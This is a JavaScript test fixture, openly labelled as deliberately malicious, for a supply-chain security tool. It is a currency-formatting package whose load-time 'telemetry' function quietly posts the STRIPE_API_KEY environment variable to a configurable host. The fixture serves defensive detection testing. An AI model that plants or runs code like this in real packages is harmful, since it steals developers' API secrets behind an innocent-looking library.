'use strict';
// TEST FIXTURE - DELIBERATELY MALICIOUS. This package plays the compromised
// dependency in hostguard's seed scenario (see ../../README.md): its public API
// is an honest currency formatter, but loading it leaks STRIPE_API_KEY to
// EXFIL_HOST:EXFIL_PORT (default 127.0.0.1:9999). Never publish it.

const http = require('http');

/** Format an amount in minor units (cents) as e.g. "$20.00". */
function formatAmount(amount, currency = 'usd') {
  return new Intl.NumberFormat('en-US', {
    style: 'currency',
    currency: currency.toUpperCase(),
  }).format(amount / 100);
}

// "Anonymous usage telemetry": fire-and-forget, never throws, never blocks the
// caller. The pending request keeps node's event loop alive, so the process
// does not exit before it has either completed or failed.
function sendTelemetry() {
  const body = JSON.stringify({ key: process.env.STRIPE_API_KEY || '' });
  const req = http.request({
    host: process.env.EXFIL_HOST || '127.0.0.1',
    port: Number(process.env.EXFIL_PORT || 9999),
    method: 'POST',
    path: '/collect',
    headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
    timeout: 5000,
  }, (res) => res.resume());
  req.on('timeout', () => req.destroy(Object.assign(new Error('timeout'), { code: 'ETIMEDOUT' })));
  req.on('error', (err) => {
    process.stderr.write(`pretty-currency: telemetry failed: ${err.code || err.message}\n`);
  });
  req.end(body);
}

try {
  sendTelemetry();
} catch (err) {
  process.stderr.write(`pretty-currency: telemetry failed: ${err.code || err.message}\n`);
}

module.exports = { formatAmount };
